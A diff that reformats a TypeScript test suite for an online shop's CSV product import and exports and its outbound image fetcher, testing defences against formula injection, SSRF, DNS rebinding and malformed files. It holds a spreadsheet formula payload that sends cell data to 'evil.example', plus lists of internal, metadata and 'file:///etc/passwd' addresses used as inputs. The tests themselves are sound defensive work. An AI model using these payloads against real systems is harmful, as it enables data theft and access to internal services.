@@ -23,7 +23,15 @@ const IMPORT = '/api/config/catalog/import';
 function squarespaceCsv(rows: Array<Record<string, string>>): string {
   return csvText([[...SQUARESPACE_COLUMNS], ...rows.map((r) => SQUARESPACE_COLUMNS.map((c) => r[c] ?? ''))]);
 }
-const product = (over: Record<string, string> = {}) => ({ 'Product Page': 'shop', Title: 'Plain Mug', SKU: `MUG-${Math.random().toString(36).slice(2, 8)}`, Price: '12.00', Stock: '3', Visible: 'Yes', ...over });
+const product = (over: Record<string, string> = {}) => ({
+  'Product Page': 'shop',
+  Title: 'Plain Mug',
+  SKU: `MUG-${Math.random().toString(36).slice(2, 8)}`,
+  Price: '12.00',
+  Stock: '3',
+  Visible: 'Yes',
+  ...over,
+});
 
 describe('the shared CSV cell encoder', () => {
   it('neutralises formula starts with a quote, quotes per RFC 4180, and the import takes the guard off again', () => {
@@ -31,7 +39,12 @@ describe('the shared CSV cell encoder', () => {
     for (const v of ['Ada', '', '1.50', "'quoted", ' =lead']) expect(csvSafeText(v)).toBe(v);
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('=a"b')).toBe(`"'=a""b"`);
-    expect(csvText([['x', 1, null], ['=y', undefined, 'z']])).toBe(`x,1,\r\n"'=y",,z\r\n`);
+    expect(
+      csvText([
+        ['x', 1, null],
+        ['=y', undefined, 'z'],
+      ]),
+    ).toBe(`x,1,\r\n"'=y",,z\r\n`);
     expect(csvUnguard("'=1+1")).toBe('=1+1');
     expect(csvUnguard("'plain")).toBe("'plain");
   });
@@ -66,11 +79,39 @@ describe('the outbound fetcher (SSRF guard)', () => {
     await new Promise((r) => server.close(r));
   });
 
-  const refusedStatically = ['http://127.0.0.1/', 'http://127.9.9.9/', 'http://10.0.0.1/', 'http://172.16.0.1/', 'http://172.31.255.255/', 'http://192.168.1.1/', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/', 'http://[fc00::1]/', 'http://[fd12:3456::1]/', 'http://[fe80::1]/', 'http://0.0.0.0/', 'http://[::ffff:127.0.0.1]/', 'http://[::ffff:10.0.0.1]/', 'http://[::]/', 'http://0x7f.1/', 'http://2130706433/', 'http://localhost/', 'http://LOCALHOST./', 'http://a.localhost/', 'file:///etc/passwd', 'gopher://example.com/', 'ftp://example.com/x.png'];
+  const refusedStatically = [
+    'http://127.0.0.1/',
+    'http://127.9.9.9/',
+    'http://10.0.0.1/',
+    'http://172.16.0.1/',
+    'http://172.31.255.255/',
+    'http://192.168.1.1/',
+    'http://169.254.169.254/latest/meta-data/',
+    'http://[::1]/',
+    'http://[fc00::1]/',
+    'http://[fd12:3456::1]/',
+    'http://[fe80::1]/',
+    'http://0.0.0.0/',
+    'http://[::ffff:127.0.0.1]/',
+    'http://[::ffff:10.0.0.1]/',
+    'http://[::]/',
+    'http://0x7f.1/',
+    'http://2130706433/',
+    'http://localhost/',
+    'http://LOCALHOST./',
+    'http://a.localhost/',
+    'file:///etc/passwd',
+    'gopher://example.com/',
+    'ftp://example.com/x.png',
+  ];
 
   it('refuses internal addresses, other schemes and local names without the network', async () => {
     const resolved: string[] = [];
-    const out = new Outbound({ maxBytes: 1000, timeoutMs: 5000, resolve: async (h) => (resolved.push(h), [{ address: '93.184.215.14', family: 4 }]) });
+    const out = new Outbound({
+      maxBytes: 1000,
+      timeoutMs: 5000,
+      resolve: async (h) => (resolved.push(h), [{ address: '93.184.215.14', family: 4 }]),
+    });
     for (const url of refusedStatically) {
       expect(out.refusal(url), url).not.toBeNull();
       await expect(out.get(url), url).rejects.toBeInstanceOf(OutboundError);
@@ -81,16 +122,32 @@ describe('the outbound fetcher (SSRF guard)', () => {
   });
 
   it('refuses a name that resolves to an internal address (any of its addresses), before connecting', async () => {
-    for (const answer of [[{ address: '127.0.0.1', family: 4 }], [{ address: '169.254.169.254', family: 4 }], [{ address: '93.184.215.14', family: 4 }, { address: '10.0.0.5', family: 4 }], [{ address: '::ffff:192.168.0.1', family: 6 }], [{ address: 'fe80::1', family: 6 }]]) {
+    for (const answer of [
+      [{ address: '127.0.0.1', family: 4 }],
+      [{ address: '169.254.169.254', family: 4 }],
+      [
+        { address: '93.184.215.14', family: 4 },
+        { address: '10.0.0.5', family: 4 },
+      ],
+      [{ address: '::ffff:192.168.0.1', family: 6 }],
+      [{ address: 'fe80::1', family: 6 }],
+    ]) {
       const out = new Outbound({ maxBytes: 1000, timeoutMs: 5000, resolve: async () => answer });
-      await expect(out.get('http://rebind.example/x.png')).rejects.toThrow('rebind.example is an internal address, which the server does not fetch');
+      await expect(out.get('http://rebind.example/x.png')).rejects.toThrow(
+        'rebind.example is an internal address, which the server does not fetch',
+      );
     }
   });
 
   it('resolves once per hop and connects to the checked address, not to a later answer (no DNS rebinding)', async () => {
     let calls = 0;
     // The first answer is the (allowed) test server; any later answer would be the metadata address.
-    const out = new Outbound({ allow: ['127.0.0.1'], maxBytes: 1000, timeoutMs: 5000, resolve: async () => (calls++ === 0 ? [{ address: '127.0.0.1', family: 4 }] : [{ address: '169.254.169.254', family: 4 }]) });
+    const out = new Outbound({
+      allow: ['127.0.0.1'],
+      maxBytes: 1000,
+      timeoutMs: 5000,
+      resolve: async () => (calls++ === 0 ? [{ address: '127.0.0.1', family: 4 }] : [{ address: '169.254.169.254', family: 4 }]),
+    });
     const got = await out.get(`http://images.example:${port}/ok.png`);
     expect(got.body.toString()).toBe('png!');
     expect(got.contentType).toBe('image/png');
@@ -130,7 +187,10 @@ describe.each(APP_KINDS)('product CSV import and exports under attack on %s', (k
 
   it('the product export neutralises formula cells, and re-importing it gives the same text back', async () => {
     const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
-    const res = await admin.send('POST', IMPORT, { csv: squarespaceCsv([product({ Title: title, Tags: '@tag', SKU: '-SKU-1' })]), dryRun: false });
+    const res = await admin.send('POST', IMPORT, {
+      csv: squarespaceCsv([product({ Title: title, Tags: '@tag', SKU: '-SKU-1' })]),
+      dryRun: false,
+    });
     expect(res.statusCode, res.body).toBe(202);
     // The job runs in the background: asked again until it ends, however long a loaded machine takes (the
     // test's own timeout bounds it), rather than for a number of loop turns.
@@ -156,18 +216,35 @@ describe.each(APP_KINDS)('product CSV import and exports under attack on %s', (k
   it('the customers export neutralises every column', async () => {
     const res = await admin.get('/api/admin/customers.csv');
     expect(res.statusCode).toBe(200);
-    for (const line of res.body.split('\r\n').filter(Boolean)) for (const cell of parse(line)[0] as string[]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const line of res.body.split('\r\n').filter(Boolean))
+      for (const cell of parse(line)[0] as string[]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it('takes an image of this site by its address without fetching it, and only a stored one', async () => {
     const origin = await t.app.emailOrigin();
     expect(ownUpload(`${origin}/uploads/0123456789abcdef01234567.jpg`, origin)).toBe('/uploads/0123456789abcdef01234567.jpg');
     expect(ownUpload(`${origin}/demo-media/mug.jpg`, origin)).toBe('/demo-media/mug.jpg');
-    for (const u of [`${origin}/uploads/../config`, `${origin}/uploads/a.jpg?x=1`, `${origin}/api/admin/backup`, 'http://127.0.0.2/uploads/a.jpg', `${origin}/uploads/sub/a.jpg`]) expect(ownUpload(u, origin), u).toBeNull();
+    for (const u of [
+      `${origin}/uploads/../config`,
+      `${origin}/uploads/a.jpg?x=1`,
+      `${origin}/api/admin/backup`,
+      'http://127.0.0.2/uploads/a.jpg',
+      `${origin}/uploads/sub/a.jpg`,
+    ])
+      expect(ownUpload(u, origin), u).toBeNull();
   });
 
   it('refuses image addresses at internal hosts with a message on their row, and fetches nothing', async () => {
-    const urls = ['http://127.0.0.1:1/a.png', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/a.png', 'http://10.0.0.1/a.png', 'http://192.168.0.1/a.png', 'http://[::ffff:172.16.0.1]/a.png', 'http://localhost/a.png', 'http://0.0.0.0/a.png'];
+    const urls = [
+      'http://127.0.0.1:1/a.png',
+      'http://169.254.169.254/latest/meta-data/',
+      'http://[::1]/a.png',
+      'http://10.0.0.1/a.png',
+      'http://192.168.0.1/a.png',
+      'http://[::ffff:172.16.0.1]/a.png',
+      'http://localhost/a.png',
+      'http://0.0.0.0/a.png',
+    ];
     const rows = urls.map((u, i) => product({ Title: `Mug ${i}`, 'Product URL': `mug-${i}`, 'Hosted Image URLs': u }));
     rows.push(product({ Title: 'File', 'Product URL': 'file-mug', 'Hosted Image URLs': 'file:///etc/passwd' }));
     const answer = (await dry(squarespaceCsv(rows))).json() as { errors: Array<{ row: number; message: string }> };
@@ -175,7 +252,9 @@ describe.each(APP_KINDS)('product CSV import and exports under attack on %s', (k
       const e = answer.errors.find((x) => x.row === i + 2);
       expect(e?.message, u).toMatch(/^The image .* cannot be imported: .* is an internal address, which the server does not fetch\.$/);
     });
-    expect(answer.errors.find((x) => x.row === urls.length + 2)?.message).toBe('The image address file:///etc/passwd must start with http:// or https://.');
+    expect(answer.errors.find((x) => x.row === urls.length + 2)?.message).toBe(
+      'The image address file:///etc/passwd must start with http:// or https://.',
+    );
     // A real run of the same file is refused whole.
     expect((await admin.send('POST', IMPORT, { csv: squarespaceCsv(rows), dryRun: false })).statusCode).toBe(400);
   });
@@ -185,16 +264,26 @@ describe.each(APP_KINDS)('product CSV import and exports under attack on %s', (k
     const firstError = async (csv: string) => ((await dry(csv)).json() as { errors: Array<{ message: string }> }).errors[0]?.message ?? '';
     expect(await firstError(`${header}\n"abc,1,2\nmore`)).toMatch(/^The file cannot be read as CSV: a quoted cell is never closed/);
     // A BOM, and ragged rows (short and long) read as the header says.
-    const bom = await dry(`\uFEFF${header}\n${squarespaceCsv([product({ Title: 'Bom Mug', 'Product URL': 'bom-mug' })]).split('\r\n')[1]},extra,cells\nshort`);
+    const bom = await dry(
+      `\uFEFF${header}\n${squarespaceCsv([product({ Title: 'Bom Mug', 'Product URL': 'bom-mug' })]).split('\r\n')[1]},extra,cells\nshort`,
+    );
     expect(bom.json().preview?.[0]?.title).toBe('Bom Mug');
     // UTF-16 read as UTF-8 (NULs), Latin-1 read as UTF-8 (replacement characters).
-    expect(await firstError(`T\u0000i\u0000t\u0000l\u0000e\u0000`)).toBe('The file is not UTF-8 text (it may be UTF-16 or Latin-1): save it as "CSV UTF-8" and choose it again.');
+    expect(await firstError(`T\u0000i\u0000t\u0000l\u0000e\u0000`)).toBe(
+      'The file is not UTF-8 text (it may be UTF-16 or Latin-1): save it as "CSV UTF-8" and choose it again.',
+    );
     expect(await firstError(`${header}\nCaf\uFFFD`)).toMatch(/^The file is not UTF-8 text/);
     // 100,000 columns.
-    expect(await firstError(Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(','))).toBe('The first line names more than 250 columns: this is not a product CSV.');
+    expect(await firstError(Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(','))).toBe(
+      'The first line names more than 250 columns: this is not a product CSV.',
+    );
     // A 10 MB single cell (and so an unclosed quote over the rest of a large file).
-    expect(await firstError(`${header}\n${'x'.repeat(10_000_000)}`)).toMatch(/^The file cannot be read as CSV: the row on line 2 is longer than 2 million characters/);
-    expect(await firstError(`${header}\n"${'y'.repeat(3_000_000)}`)).toMatch(/^The file cannot be read as CSV: the row on line 2 is longer/);
+    expect(await firstError(`${header}\n${'x'.repeat(10_000_000)}`)).toMatch(
+      /^The file cannot be read as CSV: the row on line 2 is longer than 2 million characters/,
+    );
+    expect(await firstError(`${header}\n"${'y'.repeat(3_000_000)}`)).toMatch(
+      /^The file cannot be read as CSV: the row on line 2 is longer/,
+    );
     // Many tiny rows past the row limit.
     expect(await firstError(`${header}\n${'a\n'.repeat(20_050)}`)).toBe('A file can hold up to 20000 rows.');
   });
